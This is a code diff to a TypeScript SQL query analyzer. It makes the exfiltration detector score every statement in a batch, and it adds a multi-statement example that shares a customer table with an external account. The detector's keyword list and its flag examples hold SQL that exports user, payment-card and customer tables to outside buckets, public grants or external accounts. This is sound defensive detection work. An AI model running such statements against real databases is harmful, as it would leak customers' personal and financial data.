@@ -479,6 +479,16 @@ const PAYMENT_EVIDENCE = ['sepa', 'remittance', 'bank statement', 'statement lin
 const BENEFICIARY_WORDS = ['customer chat', 'customer request', 'requested by the customer', 'customer asked', 'client asked', 'demandée par le client', 'demandé par le client', 'à la demande du client', 'auf wunsch des kunden', 'kunde hat', 'vom kunden', 'pedido del cliente', 'solicitado por el cliente', 'a pedido do cliente', 'richiesta del cliente', 'email from', 'chat'];
 
 /** The first finding `fn` gives for any statement of the batch. */
+/** The highest-scoring finding over the statements (a script's later statement may name what its first one only opens). */
+function strongestStatement(ctx: QueryContext, fn: (st: Stmt) => Finding | undefined): Finding | undefined {
+  let best: Finding | undefined;
+  for (const st of ctx.sql.stmts) {
+    const f = fn(st);
+    if (f !== undefined && (best === undefined || (f.score ?? 0) > (best.score ?? 0))) best = f;
+  }
+  return best;
+}
+
 function firstStatement(ctx: QueryContext, fn: (st: Stmt) => Finding | undefined): Finding | undefined {
   for (const st of ctx.sql.stmts) {
     const f = fn(st);
@@ -1291,7 +1301,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       primitive: 'EXFILTRATION',
       score: 8,
       keywords: ['copy into', 'unload', 'export data', 'share', 'outfile s3', 'query_export_to_s3', 'allusers', 'allauthenticatedusers'],
-      detect: (ctx) => firstStatement(ctx, rowsShippedOut) ?? firstStatement(ctx, grantedToEveryone),
+      detect: (ctx) => strongestStatement(ctx, rowsShippedOut) ?? firstStatement(ctx, grantedToEveryone),
       examples: {
         flag: [
           'GRANT `roles/bigquery.dataViewer` ON TABLE `shop-prod.sales.customers` TO "allUsers";',
@@ -1299,6 +1309,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
           "EXPORT DATA OPTIONS(uri='gs://ext-share-bucket/users-*.csv', format='CSV') AS SELECT * FROM prod.users",
           "UNLOAD ('SELECT * FROM payments.cards') TO 's3://my-personal-bkt/cards_' IAM_ROLE 'arn:aws:iam::1:role/x'",
           'ALTER SHARE customer_share ADD ACCOUNTS = xy12345',
+          // the share is opened first; the statement that puts customer records in it comes later
+          'CREATE SHARE s1; GRANT USAGE ON DATABASE prod TO SHARE s1; GRANT SELECT ON TABLE prod.crm.customers TO SHARE s1; ALTER SHARE s1 ADD ACCOUNTS = QX77120;',
         ],
         pass: [
           'COPY INTO @internal_stage/backup/ FROM analytics.daily_sales',
